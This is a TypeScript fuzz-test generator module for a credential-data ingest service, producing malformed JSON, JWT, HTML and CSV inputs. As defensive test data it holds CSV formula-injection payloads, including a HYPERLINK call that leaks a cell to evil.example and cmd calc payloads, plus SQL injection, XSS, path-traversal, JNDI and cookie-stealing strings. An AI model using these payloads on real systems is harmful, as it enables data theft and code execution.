import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { AWARD_FIELDS, OUTCOME_FIELDS, POSTING_FIELDS, type FieldSpec, type IngestFormat } from '@credpulse/ingest';
import { CREDENTIALS_CSV_FIELDS } from '@credpulse/taxonomy';

// Generators of malformed input for the fuzz suite (issue 7). Every generator starts from a real
// sample or a real header list and breaks it in the ways files and requests arrive broken:
// truncated, deeply nested, wrong types, huge strings, invalid UTF-8, ragged CSV, stray quotes, BOM,
// CRLF, malformed JWTs, oversized files. Runs are reproducible: the seed is fixed.

/** Fixed seed: CI reproduces every run; FUZZ_SEED overrides it to explore. */
export const FUZZ_SEED = Number(process.env.FUZZ_SEED ?? 20261126);

const SAMPLES = join(import.meta.dirname, '..', 'fixtures', 'samples');
const sample = (p: string) => readFileSync(join(SAMPLES, p), 'utf8');

export const SAMPLE_DOCS: Record<'obv3' | 'clr' | 'ctdl' | 'jobposting', string[]> = {
  obv3: [sample('openbadges_v3/simple.json'), sample('openbadges_v3/simple-err-issuer.json')],
  clr: [sample('clr_v2/simple.json')],
  ctdl: [sample('ctdl/Credential_WithOutcomeData_Credential_API_output.json'), sample('ctdl/wgu_aws-cloud-devops_openbadge.registry.json')],
  jobposting: [sample('schemaorg_jobposting/eg-0028.jsonld'), sample('schemaorg_jobposting/eg-0251.jsonld'), sample('schemaorg_jobposting/eg-0465.jsonld')],
};
export const SAMPLE_JWT = sample('openbadges_v3/simple.jwt').trim();

// Byte sequences that are not UTF-8: a lone continuation byte, a truncated 2- and 3-byte sequence,
// an overlong encoding, a UTF-16 surrogate encoded as UTF-8, bytes never valid in UTF-8.
const BAD_UTF8 = [[0x80], [0xc3], [0xe2, 0x82], [0xc0, 0xaf], [0xed, 0xa0, 0x80], [0xff], [0xfe, 0xff], [0xf8, 0x88, 0x80, 0x80, 0x80]].map((b) => Buffer.from(b));
const BOM = Buffer.from([0xef, 0xbb, 0xbf]);

/** A string that may hold quotes, separators, control characters, NUL, unicode quotes and emoji. */
/**
 * Spreadsheet formula payloads of the issue-20 attack review (OWASP CSV injection): uploaded as
 * employer names, titles, credential names or demographic values, they must come back from every
 * CSV export as text, never as live formulas.
 */
export const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
  '@SUM(1)',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  '=1+1 cred',
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+2',
  '\r=1+2',
] as const;

export const nastyString = fc.oneof(
  { weight: 4, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      '', ' ', '"', "'", '\\', '\u0000', '\r\n', '\n', ',', ';', '""', "' OR 1=1 --", '‘’“”', '😀', '\uD800', '-1', '1e309', 'NaN', 'null',
      'true', '0x1F', '2025-13-45', '9999-99-99', '<script>alert(1)</script>', '%00', '../../etc/passwd', '{}', '[]', '${jndi:ldap://x}',
      'javascript:alert(document.cookie)', ...FORMULA_PAYLOADS,
    ),
  },
);

/** A huge string (mostly 5-50 KB, one in twenty up to ~1 MB), to check nothing is copied without bound. */
export const hugeString = fc
  .tuple(fc.constantFrom('x', 'é', '"', ',', '\n', '😀', ' '), fc.oneof({ weight: 19, arbitrary: fc.integer({ min: 5_000, max: 50_000 }) }, { weight: 1, arbitrary: fc.integer({ min: 50_000, max: 1_000_000 }) }))
  .map(([c, n]) => c.repeat(Math.ceil(n / c.length)));

/** Any JSON value, including deep and wrong-typed ones. */
export const anyJson: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 6, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 2, arbitrary: nastyString },
  { weight: 1, arbitrary: fc.constantFrom(null, true, false, 0, -0, 1e308, -1, 3.14, [], {}, [[[]]], { '@type': 'x' }, { id: {} }, Number.MAX_SAFE_INTEGER) },
);

/** Every path (list of keys) to a value inside a parsed JSON document. */
function paths(v: unknown, prefix: (string | number)[] = [], out: (string | number)[][] = []): (string | number)[][] {
  out.push(prefix);
  if (Array.isArray(v)) v.forEach((x, i) => paths(x, [...prefix, i], out));
  else if (v && typeof v === 'object') for (const [k, x] of Object.entries(v)) paths(x, [...prefix, k], out);
  return out;
}

function setAt(doc: unknown, path: (string | number)[], value: unknown, remove: boolean): unknown {
  if (path.length === 0) return value;
  const copy = structuredClone(doc) as Record<string | number, unknown>;
  let node = copy;
  for (const k of path.slice(0, -1)) node = node[k] as Record<string | number, unknown>;
  const last = path[path.length - 1];
  if (remove) {
    if (Array.isArray(node)) node.splice(last as number, 1);
    else delete node[last];
  } else node[last] = value;
  return copy;
}

function deepNest(depth: number, kind: number): string {
  switch (kind % 4) {
    case 0:
      return '['.repeat(depth) + ']'.repeat(depth);
    case 1:
      return '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);
    case 2:
      return '['.repeat(depth); // never closed
    default:
      return '{"@context":"https://schema.org","@type":"JobPosting","title":' + '['.repeat(depth) + '"x"' + ']'.repeat(depth) + '}';
  }
}

function insertBytes(text: Buffer, at: number, bytes: Buffer): Buffer {
  const i = Math.min(at, text.length);
  return Buffer.concat([text.subarray(0, i), bytes, text.subarray(i)]);
}

/** Broken variants of a JSON document (a record may also be valid; the parser must cope either way). */
export function malformedJson(docs: string[]): fc.Arbitrary<Buffer> {
  const doc = fc.constantFrom(...docs);
  const parsed = docs.map((d) => JSON.parse(d) as unknown);
  const docIndex = fc.nat(docs.length - 1);
  return fc.oneof(
    // truncated anywhere
    { weight: 3, arbitrary: fc.tuple(doc, fc.double({ min: 0, max: 1, noNaN: true })).map(([d, f]) => Buffer.from(d.slice(0, Math.floor(d.length * f)))) },
    // a value somewhere replaced by a wrong type, or removed
    {
      weight: 5,
      arbitrary: fc.tuple(docIndex, fc.nat(), anyJson, fc.boolean(), fc.boolean()).map(([i, at, value, remove, twice]) => {
        const ps = paths(parsed[i]);
        let out = setAt(parsed[i], ps[at % ps.length], value, remove);
        if (twice) {
          const ps2 = paths(out);
          out = setAt(out, ps2[(at * 7 + 3) % ps2.length], value, !remove);
        }
        return Buffer.from(JSON.stringify(out) ?? 'undefined');
      }),
    },
    // deeply nested
    { weight: 1, arbitrary: fc.tuple(fc.integer({ min: 50, max: 200_000 }), fc.nat()).map(([d, k]) => Buffer.from(deepNest(d, k))) },
    // invalid UTF-8 bytes inside
    { weight: 2, arbitrary: fc.tuple(doc, fc.nat(), fc.constantFrom(...BAD_UTF8)).map(([d, at, b]) => insertBytes(Buffer.from(d), at % (d.length + 1), b)) },
    // a huge string value
    {
      weight: 1,
      arbitrary: fc.tuple(docIndex, fc.nat(), hugeString).map(([i, at, s]) => {
        const ps = paths(parsed[i]).filter((p) => p.length > 0);
        return Buffer.from(JSON.stringify(setAt(parsed[i], ps[at % ps.length], s, false)));
      }),
    },
    // BOM, CRLF, several documents (JSON Lines / array), stray bytes between them
    {
      weight: 2,
      arbitrary: fc.tuple(fc.array(doc, { minLength: 1, maxLength: 4 }), fc.constantFrom('\n', '\r\n', ',', ' ', '\u0000', '}{', ']['), fc.boolean(), fc.boolean()).map(([ds, sep, bom, arr]) => {
        const body = ds.map((d) => d.replace(/\n/g, '\r\n')).join(sep);
        return Buffer.concat([bom ? BOM : Buffer.alloc(0), Buffer.from(arr ? `[${body}]` : body)]);
      }),
    },
    // not JSON at all
    { weight: 1, arbitrary: fc.uint8Array({ maxLength: 2000 }).map((a) => Buffer.from(a)) },
    { weight: 1, arbitrary: fc.constantFrom('', ' ', '\uFEFF', 'null', '[]', '{}', '"x"', '123', '[null]', '[1,2,3]', '{"@context":[]}', 'eyJ', '<html>').map((s) => Buffer.from(s)) },
  );
}

const b64u = (s: string | Buffer) => Buffer.from(s).toString('base64url');

/** Broken compact JWS (VC-JWT) strings, one or more per line. */
export function malformedJwt(): fc.Arbitrary<Buffer> {
  const [h, p, s] = SAMPLE_JWT.split('.');
  const payload = JSON.parse(Buffer.from(p, 'base64url').toString('utf8')) as unknown;
  const segment = fc.oneof(fc.base64String({ maxLength: 200 }), fc.string({ maxLength: 60 }), fc.constantFrom('', '=', '.', '%%%', '\u0000', 'eyJ', h, p, s));
  const one = fc.oneof(
    // random segments and dot counts
    { weight: 2, arbitrary: fc.array(segment, { minLength: 0, maxLength: 5 }).map((parts) => parts.join('.')) },
    // the sample with one part truncated or a character flipped
    {
      weight: 3,
      arbitrary: fc.tuple(fc.nat(2), fc.double({ min: 0, max: 1, noNaN: true }), fc.boolean(), fc.string({ minLength: 1, maxLength: 1 })).map(([which, f, flip, c]) => {
        const parts = [h, p, s];
        const x = parts[which];
        const at = Math.floor(x.length * f);
        parts[which] = flip ? x.slice(0, at) + c + x.slice(at + 1) : x.slice(0, at);
        return parts.join('.');
      }),
    },
    // a payload that is not JSON, or JSON of the wrong shape, or a wrong-typed claim
    {
      weight: 3,
      arbitrary: fc.oneof(
        fc.string({ maxLength: 80 }).map((x) => `${h}.${b64u(x)}.${s}`),
        anyJson.map((v) => `${h}.${b64u(JSON.stringify(v) ?? '')}.${s}`),
        fc.tuple(fc.nat(), anyJson, fc.boolean()).map(([at, v, rm]) => {
          const ps = paths(payload);
          return `${h}.${b64u(JSON.stringify(setAt(payload, ps[at % ps.length], v, rm)) ?? '')}.${s}`;
        }),
        fc.uint8Array({ maxLength: 100 }).map((a) => `${b64u(Buffer.from(a))}.${b64u(Buffer.from(a).reverse())}.${s}`),
      ),
    },
    // header with alg none / wrong types
    { weight: 1, arbitrary: anyJson.map((v) => `${b64u(JSON.stringify({ alg: v, typ: 'JWT' }))}.${p}.${s}`) },
    // a huge segment
    { weight: 1, arbitrary: hugeString.map((x) => `${h}.${b64u(x).slice(0, 3_000_000)}.${s}`) },
  );
  return fc.tuple(fc.array(one, { minLength: 1, maxLength: 3 }), fc.constantFrom('\n', '\r\n', ' \n\n'), fc.boolean(), fc.option(fc.constantFrom(...BAD_UTF8))).map(([lines, nl, bom, bad]) => {
    const text = Buffer.from(lines.join(nl));
    const withBad = bad ? insertBytes(text, Math.floor(text.length / 2), bad) : text;
    return bom ? Buffer.concat([BOM, withBad]) : withBad;
  });
}

/** HTML pages carrying (broken) JSON-LD blocks, and pages that only look like HTML. */
export function malformedHtml(): fc.Arbitrary<Buffer> {
  const block = malformedJson(SAMPLE_DOCS.jobposting).map((b) => b.toString('latin1'));
  return fc.oneof(
    fc.tuple(fc.array(block, { minLength: 0, maxLength: 3 }), fc.constantFrom('application/ld+json', 'APPLICATION/LD+JSON', 'text/javascript', 'application/ld+json; charset=utf-8')).map(([bs, t]) =>
      Buffer.from(`<!doctype html><html><head>${bs.map((b) => `<script type="${t}">${b}</script>`).join('\n')}</head><body>x</body></html>`, 'latin1'),
    ),
    block.map((b) => Buffer.from(`<html><script type="application/ld+json">${b}`, 'latin1')), // never closed
    fc.constantFrom('<html>', '<', '<script type="application/ld+json"></script>', '<html><script type="application/ld+json"><script type="application/ld+json">{}</script></script>').map((s) => Buffer.from(s)),
    fc.tuple(fc.integer({ min: 1, max: 50_000 })).map(([n]) => Buffer.from('<html>' + '<div>'.repeat(n) + '<script type="application/ld+json">{"@type":"JobPosting"}</script>')),
  );
}

type CsvFormat = 'postings-csv' | 'awards-csv' | 'outcomes-csv' | 'credentials-csv';
const FIELDS: Record<CsvFormat, Pick<FieldSpec, 'name' | 'aliases'>[]> = { 'postings-csv': POSTING_FIELDS, 'awards-csv': AWARD_FIELDS, 'outcomes-csv': OUTCOME_FIELDS, 'credentials-csv': CREDENTIALS_CSV_FIELDS };

// Values a column might plausibly hold, and broken ones.
const cell = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom('2025-03-01', '03/01/2025', '2025Q1', '2025-Q5', '06', 'CA', 'California', '06037', '62', '29-1141', '51.3801', '52000', 'hour', 'year', 'true', 'N', 'bachelor', '4', 'Registered Nurse', 'learner-1', 'catalog:comptia-aplus') },
  { weight: 3, arbitrary: nastyString },
  { weight: 1, arbitrary: fc.constantFrom('"unterminated', 'a"b', '"a""b"', '"', '""""', '"x"y', '"multi\nline"', '"crlf\r\ninside"') },
);

function csvLine(cells: string[], delimiter: string, quoteAll: boolean): string {
  return cells.map((c) => (quoteAll ? `"${c.replace(/"/g, '""')}"` : c)).join(delimiter);
}

/** Broken CSV files of a format: real and wrong headers, ragged rows, stray quotes, BOM, CRLF, bad bytes. */
export function malformedCsv(format: CsvFormat): fc.Arbitrary<Buffer> {
  const names = FIELDS[format].flatMap((f) => [f.name, ...(f.aliases ?? [])]);
  const header = fc.oneof(
    { weight: 4, arbitrary: fc.shuffledSubarray(names, { minLength: 1 }) },
    { weight: 1, arbitrary: fc.array(fc.oneof(fc.constantFrom(...names), nastyString), { minLength: 0, maxLength: 12 }) },
    { weight: 1, arbitrary: fc.constantFrom(...names).map((n) => [n, n, n.toUpperCase(), ` ${n} `]) }, // duplicates and padding
  );
  const file = fc
    .tuple(
      header,
      fc.array(fc.array(cell, { minLength: 0, maxLength: 24 }), { minLength: 0, maxLength: 30 }),
      fc.constantFrom('\n', '\r\n', '\r', '\n\r'),
      fc.boolean(),
      fc.constantFrom(',', ',', ',', ';', '\t'),
      fc.boolean(),
    )
    .map(([h, rows, nl, bom, d, quoteAll]) => {
      const text = [csvLine(h, d, false), ...rows.map((r) => csvLine(r, d, quoteAll && r.length % 2 === 0))].join(nl);
      return Buffer.concat([bom ? BOM : Buffer.alloc(0), Buffer.from(text)]);
    });
  return fc.oneof(
    { weight: 8, arbitrary: file },
    // invalid UTF-8 in a cell
    { weight: 2, arbitrary: fc.tuple(file, fc.nat(), fc.constantFrom(...BAD_UTF8)).map(([f, at, b]) => insertBytes(f, at % (f.length + 1), b)) },
    // truncated mid-row (possibly inside quotes)
    { weight: 1, arbitrary: fc.tuple(file, fc.double({ min: 0, max: 1, noNaN: true })).map(([f, x]) => f.subarray(0, Math.floor(f.length * x))) },
    // a huge cell or a huge header
    { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...names), hugeString).map(([n, s]) => Buffer.from(`${n},title,posted_date\n"${s.replace(/"/g, '""')}",x,2025-01-01\n`)) },
    { weight: 1, arbitrary: hugeString.map((s) => Buffer.from(s.replace(/\n/g, ' '))) },
    // binary junk
    { weight: 1, arbitrary: fc.uint8Array({ maxLength: 3000 }).map((a) => Buffer.from(a)) },
  );
}

/** The malformed inputs of each ingest format (the JSON-LD formats also get JSON Lines, JWTs and HTML where they accept them). */
export function malformedFile(format: IngestFormat): fc.Arbitrary<Buffer> {
  switch (format) {
    case 'obv3':
      return fc.oneof(malformedJson(SAMPLE_DOCS.obv3), malformedJwt());
    case 'clr':
      return malformedJson(SAMPLE_DOCS.clr);
    case 'ctdl':
      return malformedJson(SAMPLE_DOCS.ctdl);
    case 'jobposting':
      return fc.oneof(malformedJson(SAMPLE_DOCS.jobposting), malformedHtml());
    default:
      return malformedCsv(format);
  }
}

/** Splits a buffer into chunks at random points, as a network stream would deliver it. */
export function chunked(buf: Buffer, cuts: number[]): Buffer[] {
  const points = [...new Set(cuts.map((c) => c % (buf.length + 1)))].sort((a, b) => a - b);
  const out: Buffer[] = [];
  let prev = 0;
  for (const p of points) {
    if (p > prev) out.push(buf.subarray(prev, p));
    prev = p;
  }
  out.push(buf.subarray(prev));
  return out;
}

/** Samples n values of an arbitrary with the fixed seed (plus a per-suite salt so suites differ). */
export function sampleInputs<T>(arb: fc.Arbitrary<T>, n: number, salt: number): T[] {
  return fc.sample(arb, { numRuns: n, seed: FUZZ_SEED + salt });
}

/** Heap in use after a full garbage collection (gc exposed through the V8 flag when not already). */
export async function settledHeapMb(): Promise<number> {
  const { setFlagsFromString } = await import('node:v8');
  const { runInNewContext } = await import('node:vm');
  setFlagsFromString('--expose-gc');
  const gc = (globalThis as { gc?: () => void }).gc ?? (runInNewContext('gc') as () => void);
  gc();
  gc();
  return process.memoryUsage().heapUsed / 1024 / 1024;
}
